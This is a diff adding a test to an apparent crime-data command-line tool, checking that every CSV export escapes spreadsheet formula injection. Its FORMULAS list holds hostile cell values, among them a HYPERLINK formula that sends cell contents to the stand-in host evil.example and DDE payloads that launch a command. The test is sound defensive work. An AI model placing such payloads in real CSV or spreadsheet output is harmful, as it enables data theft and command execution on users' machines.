@@ -174,3 +174,56 @@ def test_data_text_shown_in_the_app_is_never_markdown(text, live):
     soup = BeautifulSoup(html, "html.parser")
     assert soup.find(["a", "img", "b", "strong", "em"]) is None
     assert soup.get_text().strip() == text
+
+
+FORMULAS = ('=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+cmd|' /C calc'!A0",
+            "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0", "\t=1+1")  # fmt: skip
+
+
+def test_no_csv_cell_the_tool_writes_starts_a_formula(tmp_path, write_police, wards):
+    """Hostile Location, crime type and ward name through every CSV command."""
+    import csv
+
+    from app.cli import main
+    from tests.conftest import police_row
+
+    rows = [
+        police_row(
+            30 + (i % 3), 50, month=month, Location=FORMULAS[i % 5],
+            **{"Crime type": FORMULAS[1] if i % 2 else "Anti-social behaviour"},
+        )
+        for month in ("2022-01", "2023-01")
+        for i in range(60)
+    ]  # fmt: skip
+    police = write_police(rows, "2022-01-test-street.csv")
+    ward_file = tmp_path / "w.geojson"
+    wards.assign(ward_name=[FORMULAS[2], FORMULAS[0]]).to_crs("EPSG:4326").to_file(
+        ward_file
+    )
+    cams = tmp_path / "cams.csv"
+    cams.write_text(
+        "camera_id,location,easting,northing,range_m\n"
+        f'{FORMULAS[2]},"{FORMULAS[0].replace(chr(34), chr(34) * 2)}",'
+        f"{ORIGIN[0] + 30},{ORIGIN[1] + 50},50\n"
+    )
+    common = [str(police), "--wards", str(ward_file)]
+    outs = {
+        "load": ["load", *common, "--out"],
+        "hotspots": ["hotspots", *common, "--eps", "50", "--min-samples", "5",
+                     "--out"],
+        "wards": ["wards", *common, "--before", "2022", "--after", "2023", "--out"],
+        "years": ["years", *common, "--from", "2022", "--to", "2023", "--calendar",
+                  "--out"],
+        "coverage": ["coverage", *common, "--cameras", str(cams), "--out"],
+    }  # fmt: skip
+    seen = 0
+    for name, argv in outs.items():
+        out = tmp_path / f"{name}.csv"
+        assert main([*argv, str(out)]) == 0, name
+        with out.open(encoding="utf-8-sig", newline="") as f:
+            for row in csv.reader(f):
+                for cell in row:
+                    if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
+                        float(cell)  # a number (-3.05), never a formula
+                    seen += cell.startswith("'") and cell[1:] in FORMULAS
+    assert seen >= 5  # the hostile texts were written, made inert
